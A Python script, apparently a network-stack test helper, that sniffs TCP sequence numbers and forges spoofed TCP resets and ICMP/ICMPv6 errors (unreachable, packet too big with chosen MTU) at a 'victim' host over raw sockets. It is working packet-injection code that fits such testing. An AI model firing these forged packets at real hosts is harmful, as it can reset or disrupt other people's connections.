#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""
usage: forge.py watch                          prints each TCP packet for this host, as
                                               "SPORT DPORT SEQ ACK FLAGS"
       forge.py send DEV MAC < LINES           LINES: ROUTER VICTIM MESSAGE

What an attacker on the wire can say. send puts each message in clear on the device, to the
address of Ethernet MAC and the host VICTIM, and prints "done" when the host has taken it in:
it has answered a ping of ROUTER, an address of ours, which came after it. MESSAGE is

  rst SRC SPORT DPORT SEQ ACK                  of TCP, from SRC; ACK 0: it has none
  KIND[=MTU] tcp SPORT DST DPORT SEQ           an ICMP error of ROUTER that quotes a packet
  KIND[=MTU] options SPORT DST DPORT SEQ       that VICTIM sent; the same with an option, or
  KIND[=MTU] udp SPORT DST DPORT               an extension header, before TCP
  KIND[=MTU] esp DST SPI
  KIND[=MTU] pong DST                          the answer to a ping

KIND: port, host, prohibited, expired, problem, big.
"""

import ipaddress
import os
import select
import socket
import struct
import sys

TCP, UDP, ESP = 6, 17, 50
PING = {4: 1, 6: 58}  # the protocol
KINDS = {
    4: {"port": (3, 3), "host": (3, 1), "prohibited": (3, 13), "expired": (11, 0),
        "problem": (12, 0), "big": (3, 4)},
    6: {"port": (1, 4), "host": (1, 3), "prohibited": (1, 1), "expired": (3, 0),
        "problem": (4, 1), "big": (2, 0)},
}
ECHO, ECHO_REPLY = {4: 8, 6: 128}, {4: 0, 6: 129}


def address(text):
    return ipaddress.ip_address(text)


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def ip(src, dst, protocol, payload, options=b""):
    if src.version == 6:
        return struct.pack("!IHBB", 6 << 28, len(options + payload), protocol, 64) + \
            src.packed + dst.packed + options + payload
    header = struct.pack("!BBHHHBBH", 0x45 + len(options) // 4, 0,
                         20 + len(options + payload), 1, 0, 64, protocol, 0) + \
        src.packed + dst.packed + options
    return header[:10] + struct.pack("!H", checksum(header)) + header[12:] + payload


def summed(src, dst, protocol, data, at):
    """The data with its checksum at that place."""
    pseudo = src.packed + dst.packed + struct.pack("!II", len(data), protocol)
    if protocol == 1:
        pseudo = b""
    return data[:at] + struct.pack("!H", checksum(pseudo + data)) + data[at + 2:]


def tcp(sport, dport, seq, ack=0, flags=0x18):
    return struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 1000, 0, 0)


def reset(victim, src, sport, dport, seq, ack):
    src = address(src)
    data = tcp(int(sport), int(dport), int(seq), int(ack), 0x14 if int(ack) else 0x04)
    return ip(src, victim, TCP, summed(src, victim, TCP, data, 16))


def quoted(victim, what, args):
    version = victim.version
    if what in ("tcp", "options"):
        sport, dst, dport, seq = int(args[0]), address(args[1]), int(args[2]), int(args[3])
        if what == "tcp":
            return ip(victim, dst, TCP, tcp(sport, dport, seq))
        if version == 4:
            return ip(victim, dst, TCP, tcp(sport, dport, seq), options=b"\1\1\1\1")
        return ip(victim, dst, 60, tcp(sport, dport, seq), options=bytes([TCP, 0, 1, 4, 0, 0, 0, 0]))
    if what == "udp":
        return ip(victim, address(args[1]), UDP, struct.pack("!HHHH", int(args[0]), int(args[2]), 8, 0))
    dst = address(args[0])
    if what == "esp":
        return ip(victim, dst, ESP, struct.pack("!II", int(args[1], 0), 1) + bytes(40))
    return ip(victim, dst, PING[version], struct.pack("!BBHHH", ECHO_REPLY[version], 0, 0, 1, 1))


def error(router, victim, kind, what, args):
    kind, _, mtu = kind.partition("=")
    data = struct.pack("!BBHI", *KINDS[victim.version][kind], 0, int(mtu or 0)) + \
        quoted(victim, what, args)
    protocol = PING[victim.version]
    return ip(router, victim, protocol, summed(router, victim, protocol, data, 2))


def ping(router, victim, name):
    protocol = PING[victim.version]
    data = struct.pack("!BBHHH", ECHO[victim.version], 0, 0, name, 1)
    return ip(router, victim, protocol, summed(router, victim, protocol, data, 2))


def answered(hear, version, name):
    while select.select([hear], [], [], 10)[0]:
        answer = hear.recv(2000)
        if version == 4:
            answer = answer[20:]
        if answer[0] == ECHO_REPLY[version] and answer[4:6] == struct.pack("!H", name):
            return True
    return False


def send_one(out, dev, mac, name, router, victim, *message):
    router, victim = address(router), address(victim)
    if message[0] == "rst":
        packet = reset(victim, *message[1:])
    else:
        packet = error(router, victim, message[0], message[1], message[2:])
    four = victim.version == 4
    to = (dev, 0x0800 if four else 0x86DD, 0, 0, bytes.fromhex(mac.replace(":", "")))
    with socket.socket(socket.AF_INET if four else socket.AF_INET6, socket.SOCK_RAW,
                       PING[victim.version]) as hear:
        out.sendto(packet, to)
        out.sendto(ping(router, victim, name), to)
        return answered(hear, victim.version, name)


def send(dev, mac):
    os.sched_setaffinity(0, [min(os.sched_getaffinity(0))])  # a message and its ping go the same way
    out = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM)
    for name, line in enumerate(sys.stdin):
        print("done" if send_one(out, dev, mac, name, *line.split()) else "no answer", flush=True)


def watch():
    both = [socket.socket(f, socket.SOCK_RAW, TCP) for f in (socket.AF_INET, socket.AF_INET6)]
    print("watching", flush=True)
    while True:
        for sock in select.select(both, [], [])[0]:
            packet = sock.recv(2000)
            if sock is both[0]:
                packet = packet[(packet[0] & 15) * 4:]
            sport, dport, seq, ack, _, flags = struct.unpack("!HHIIBB", packet[:14])
            print(sport, dport, seq, ack, f"{flags:#x}", flush=True)


if sys.argv[1] == "watch":
    watch()
else:
    send(sys.argv[2], sys.argv[3])
